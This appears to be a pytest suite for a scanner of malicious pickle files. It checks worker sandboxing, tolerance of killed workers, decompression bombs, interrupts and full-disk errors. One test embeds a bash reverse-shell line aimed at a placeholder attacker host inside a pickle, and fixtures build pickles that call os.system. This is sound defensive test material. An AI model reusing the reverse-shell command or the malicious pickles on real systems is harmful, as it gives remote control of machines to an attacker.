"""The processes that read hostile bytes: what they may do, what they may cost, and that losing one loses nothing."""

from __future__ import annotations

import contextlib
import json
import os
import pathlib
import resource
import signal
import subprocess
import time

import pytest

from archives import gzip_stream
from assembler import harmless, payload, pickle
from bombs import BOMBS
from conftest import ERROR, FOUND, INTERRUPTED, PROGRAM, assay, children, clean_environment, only, scan

MOST_MEMORY = 256 << 20
MOST_SECONDS = 5.0
MOST_PATIENCE = 20


@contextlib.contextmanager
def running(*words):
    process = subprocess.Popen([PROGRAM, *words], stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=clean_environment())
    try:
        yield process
    finally:
        if process.poll() is None:
            process.kill()
        process.communicate()


def until(condition, seconds=20.0):
    """The condition's first true value."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if value := condition():
            return value
        time.sleep(0.002)
    raise AssertionError("it did not come to that")


@pytest.fixture(scope="module")
def slow(tmp_path_factory):
    """A pickle that keeps a cell busy for a few seconds."""
    path = tmp_path_factory.mktemp("slow") / "slow.pkl"
    path.write_bytes(bytes(pickle(2).raw(b"N0" * 100_000_000).none().stop()))
    return path


# Confinement ---------------------------------------------------------------------------------------------------------

def locked(pid: int) -> bool:
    """True once the cell has finished locking itself down."""
    try:
        return "Seccomp:\t2" in pathlib.Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return False


@pytest.fixture
def cell(slow):
    with running("scan", "--format", "json", slow) as process:
        yield until(lambda: next((c for c in children(process.pid) if locked(c)), None))


def status_of(pid: int) -> dict:
    lines = pathlib.Path(f"/proc/{pid}/status").read_text().splitlines()
    return {key: value.strip() for key, _, value in (line.partition(":") for line in lines)}


def test_a_cell_is_under_the_filter_and_can_gain_nothing(cell):
    status = status_of(cell)
    assert status["Seccomp"] == "2" and int(status["Seccomp_filters"]) >= 1
    assert status["NoNewPrivs"] == "1"


def test_a_cell_holds_its_socket_and_what_it_was_lent(cell, slow):
    held = {int(n): os.readlink(f"/proc/{cell}/fd/{n}") for n in os.listdir(f"/proc/{cell}/fd")}
    assert held.pop(3).startswith("socket:")
    assert all(held.pop(n).startswith("pipe:") for n in (0, 1, 2))  # dead ends
    assert set(held.values()) <= {str(slow)}, held
    for n in held:
        assert int(pathlib.Path(f"/proc/{cell}/fdinfo/{n}").read_text().split("flags:")[1].split()[0], 8) & 3 == os.O_RDONLY


def test_a_cell_has_limits(cell):
    limits = {line[:25].strip(): line[26:].split()[1] for line in pathlib.Path(f"/proc/{cell}/limits").read_text().splitlines()[1:]}
    assert limits["Max core file size"] == "0"
    assert int(limits["Max address space"]) < 4 << 30
    assert int(limits["Max open files"]) < 1024


def test_no_page_of_a_cell_is_writable_and_executable(cell):
    try:
        maps = pathlib.Path(f"/proc/{cell}/maps").read_text()
    except PermissionError:
        pytest.skip("this kernel shows nobody the maps of a process that cannot be dumped")
    assert not [line for line in maps.splitlines() if "wx" in line.split()[1]]


def test_cells_end_with_the_scan(slow):
    with running("scan", "--format", "json", slow) as process:
        cells = until(lambda: children(process.pid))
        process.kill()
        process.wait()
        until(lambda: not any(os.path.exists(f"/proc/{c}") and status_of(c)["State"][0] != "Z" for c in cells))


# Losing cells --------------------------------------------------------------------------------------------------------

FILES = 6000


@pytest.fixture(scope="module")
def many(tmp_path_factory):
    folder = tmp_path_factory.mktemp("many")
    busy = b"N0" * 20_000  # so that cells live long enough to be hit in the middle
    for i in range(FILES):
        body = pickle(2).raw(busy).value({"number": i})
        (folder / f"{i:04}.pkl").write_bytes(bytes(body.call("os", "system", "true").stop() if i % 10 == 0 else body.stop()))
    return folder


def statuses(report: dict) -> dict:
    return {a["path"]: (a["status"], sorted(f["rule"] for f in a["findings"]), [e["status"] for e in a["engines"]])
            for a in report["artifacts"]}


def test_killing_cells_loses_nothing(many, tmp_path):
    wanted = scan(many).report
    out = tmp_path / "report.json"
    killed = 0
    with running("scan", "--format", "json", "-j", "2", "-o", out, many) as process:
        while process.poll() is None and killed < 40:
            for cell in children(process.pid)[:1]:
                with contextlib.suppress(ProcessLookupError):
                    os.kill(cell, signal.SIGKILL)
                    killed += 1
            time.sleep(0.05)  # a file that is hit at its second try as well is lost, and says so
        process.communicate(timeout=120)
    got = json.loads(out.read_text())
    assert killed >= 5, "the scan was over before anything was killed"
    told = statuses(got)
    wrong = {path: (told.get(path), status) for path, status in statuses(wanted).items() if told.get(path) != status}
    assert not wrong, list(wrong.items())[:5]
    assert process.returncode == FOUND and len(got["artifacts"]) == FILES


def has_open(pid, path):
    with contextlib.suppress(OSError):
        return any(os.readlink(entry) == str(path) for entry in pathlib.Path(f"/proc/{pid}/fd").iterdir())


@pytest.mark.parametrize("which", [0, 1])
def test_what_changes_between_two_readers_is_not_cleared(tmp_path, which):
    """A large pickle is parsed in one cell and swept in another: the slower one must not speak of other bytes."""
    attack = b"#!/bin/bash\nbash -i >& /dev/tcp/attacker.invalid/4444 0>&1\n"
    content = bytes(pickle(4).binbytes(bytes(40_000_000)).binbytes(attack).stop())
    path = tmp_path / "a.pkl"
    path.write_bytes(content)
    with running("scan", "--format", "json", "--jobs", "2", path) as process:
        until(lambda: has_open(process.pid, path))
        cell = sorted(children(process.pid))[which]
        os.kill(cell, signal.SIGSTOP)
        time.sleep(0.5)
        with path.open("r+b") as file:
            file.seek(content.index(attack))
            file.write(b" " * len(attack))
        with contextlib.suppress(ProcessLookupError):  # it had nothing left to do
            os.kill(cell, signal.SIGCONT)
        out, _ = process.communicate(timeout=60)
    (artifact,) = json.loads(out)["artifacts"]
    assert artifact["status"] in ("error", "unsafe"), artifact


def test_stopped_cells_do_not_confuse_results(many):
    """A cell that is paused and goes on must not have its answers mixed up."""
    with running("scan", "--format", "json", many) as process:
        for _ in range(5):
            for cell in children(process.pid):
                with contextlib.suppress(ProcessLookupError):
                    os.kill(cell, signal.SIGSTOP)
                    time.sleep(0.02)
                    os.kill(cell, signal.SIGCONT)
        out, _ = process.communicate(timeout=120)
    got = statuses(json.loads(out))
    assert all((got[f"{i:04}.pkl"][0] == "unsafe") == (i % 10 == 0) for i in range(FILES))


# Bombs ---------------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("bomb", BOMBS)
def test_a_bomb_costs_little(bomb, tmp_path):
    data = BOMBS[bomb]()
    assert len(data) <= 1_100_000, f"{len(data)} bytes: a bomb here is small"
    (tmp_path / bomb).write_bytes(data)
    seconds, memory, report, code = measured(tmp_path / bomb)
    assert code in (0, FOUND, ERROR)
    (artifact,) = report["artifacts"]
    assert "crashed" not in json.dumps(artifact), artifact["findings"]
    assert memory < MOST_MEMORY, f"{memory >> 20} MB"
    assert seconds < MOST_SECONDS, f"{seconds:.1f} s"


def measured(path):
    """Wall-clock seconds, the largest resident size of the program and its cells, the report, the exit code."""
    out = path.with_suffix(".report")
    started = time.monotonic()
    child = os.fork()
    if child == 0:
        try:
            os.execve(PROGRAM, [str(PROGRAM), "scan", "--format", "json", "-o", str(out), str(path)], clean_environment())
        finally:
            os._exit(99)
    end = started + MOST_PATIENCE
    while True:
        done, status, usage = os.wait4(child, os.WNOHANG)  # counts the cells too: the program has waited for them
        if done:
            break
        if time.monotonic() > end:
            os.kill(child, signal.SIGKILL)
            os.waitpid(child, 0)
            pytest.fail(f"not done after {MOST_PATIENCE} s")
        time.sleep(0.005)
    assert os.WIFEXITED(status), f"killed by {os.WTERMSIG(status)}"
    return time.monotonic() - started, usage.ru_maxrss * 1024, json.loads(out.read_text()), os.WEXITSTATUS(status)


def test_bombs_do_not_cost_their_neighbours(tmp_path):
    for name in ("gzip", "deep-tuples", "many-imports", "zip-wide-and-deep"):
        (tmp_path / name).write_bytes(BOMBS[name]())
    (tmp_path / "a.pkl").write_bytes(payload())
    (tmp_path / "z.pkl").write_bytes(harmless())
    artifacts = scan(tmp_path, patience=MOST_PATIENCE).artifacts
    assert artifacts["a.pkl"]["status"] == "unsafe" and artifacts["z.pkl"]["status"] == "safe"


# Interruption --------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM])
def test_an_interrupted_scan_reports_what_it_has(many, slow, tmp_path, number):
    started = time.monotonic()
    with running("scan", "--format", "json", many, slow) as process:
        until(lambda: children(process.pid))
        time.sleep(0.3)
        process.send_signal(number)
        out, _ = process.communicate(timeout=20)
    assert process.returncode == INTERRUPTED and time.monotonic() - started < 20
    report = json.loads(out)
    assert len(report["artifacts"]) == FILES + 1
    unread = [a for a in report["artifacts"] if "interrupted" in json.dumps(a)]
    assert unread and all(a["status"] == "error" for a in unread)
    assert report["status"] != "safe"


def test_an_interrupted_scan_says_nothing_false(many, tmp_path):
    with running("scan", "--format", "json", many) as process:
        until(lambda: children(process.pid))
        process.send_signal(signal.SIGINT)
        out, _ = process.communicate(timeout=20)
    for artifact in json.loads(out)["artifacts"]:
        number = int(artifact["path"].split("/")[-1][:4])
        assert artifact["status"] == "error" or (artifact["status"] == "unsafe") == (number % 10 == 0)


# Full disks ----------------------------------------------------------------------------------------------------------

def test_a_full_disk_is_told(tmp_path, payload):
    (tmp_path / "a.pkl").write_bytes(payload)
    answer = assay("scan", tmp_path / "a.pkl", "-o", "/dev/full")
    assert answer.code == ERROR and b"/dev/full" in answer.err and b"No space left" in answer.err
    for words in (["facts"], ["scan", "--format", "json"]):
        with open("/dev/full", "wb") as full:
            done = subprocess.run([PROGRAM, *words, tmp_path / "a.pkl"], stdout=full, stderr=subprocess.PIPE,
                                  env=clean_environment(), check=False)
        assert done.returncode == ERROR and b"No space left" in done.stderr


def test_no_half_report_is_left_behind(tmp_path, payload):
    """The old report stays where the new one does not fit."""
    model, small = tmp_path / "models", tmp_path / "small"
    model.mkdir(), small.mkdir()
    for i in range(200):
        (model / f"{i}.pkl").write_bytes(payload)
    report = small / "report.json"
    report.write_text("old")
    limit = 20_000

    def only_so_many_bytes():
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    done = subprocess.run([PROGRAM, "scan", "--format", "json", "-o", report, model], capture_output=True,
                          preexec_fn=only_so_many_bytes, env=clean_environment(), check=False)
    assert done.returncode == ERROR and b"report.json" in done.stderr
    assert report.read_text() == "old" and [p.name for p in small.iterdir()] == ["report.json"]


def test_an_output_that_cannot_be_made_is_told(tmp_path, payload):
    (tmp_path / "a.pkl").write_bytes(payload)
    answer = assay("scan", tmp_path / "a.pkl", "-o", tmp_path / "nowhere" / "report")
    assert answer.code == ERROR and answer.err.count(b"\n") == 1


def test_no_room_for_decompressed_bytes_is_an_error(tmp_path):
    (tmp_path / "a.gz").write_bytes(gzip_stream(harmless() + bytes(200_000_000) + payload()))
    artifact = only(scan(tmp_path / "a.gz", "--spool", tmp_path / "nowhere"))
    assert artifact["status"] in ("error", "unsafe", "suspicious")
